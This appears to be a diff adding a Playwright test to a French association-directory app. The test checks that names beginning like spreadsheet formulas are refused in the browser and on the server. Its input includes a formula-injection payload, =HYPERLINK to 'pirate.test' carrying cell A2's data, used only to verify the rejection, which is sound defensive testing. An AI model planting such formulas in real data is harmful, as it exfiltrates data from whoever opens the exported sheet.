@@ -61,3 +61,28 @@ test("a cross-site form post is refused", async ({ page }) => {
   });
   expect(response.status()).toBe(403);
 });
+
+test("a name that starts like a spreadsheet formula is refused beside its field, in the browser and on the server", async ({ page }) => {
+  const db = getDb();
+  const member = await loginAs(page, "member", { association: { name: "Les Amis du Quartier Battant" } });
+  await page.goto(`/espace/associations/${member.associationId}/profil`);
+  const message = "Nom de l'association : ne peut pas commencer par =, +, -, @ ni par une tabulation.";
+  await page.getByLabel("Nom de l'association").fill('=HYPERLINK("https://pirate.test/?d="&A2,"Cliquez")');
+  await page.getByRole("button", { name: "Enregistrer la fiche" }).click();
+  await expect(page.getByRole("alert")).toContainText(message);
+  await expect(page.getByLabel("Nom de l'association")).toHaveAttribute("aria-invalid", "true");
+  await expectAccessible(page);
+
+  // The same form posted without the browser's check: the action refuses it with the same message.
+  const saved = await db.association.findUniqueOrThrow({ where: { id: member.associationId! }, include: { fields: true, publics: true } });
+  const form = new URLSearchParams({ name: "  @SUM(A1:A9)", socialObject: saved.socialObject, address: saved.address, postcode: saved.postcode, city: saved.city, district: saved.district });
+  for (const f of saved.fields) form.append("fields", f.slug);
+  for (const p of saved.publics) form.append("publics", p.slug);
+  const post = await page.request.post(`/espace/associations/${member.associationId}/profil`, {
+    headers: { Origin: new URL(page.url()).origin, "Content-Type": "application/x-www-form-urlencoded" },
+    data: form.toString(),
+  });
+  expect(post.status()).toBe(400);
+  expect((await post.text()).replace(/<script[\s\S]*?<\/script>/g, "").replace(/&#x27;|&#39;/g, "'")).toContain(message);
+  expect((await db.association.findUniqueOrThrow({ where: { id: member.associationId! } })).name).toBe("Les Amis du Quartier Battant");
+});
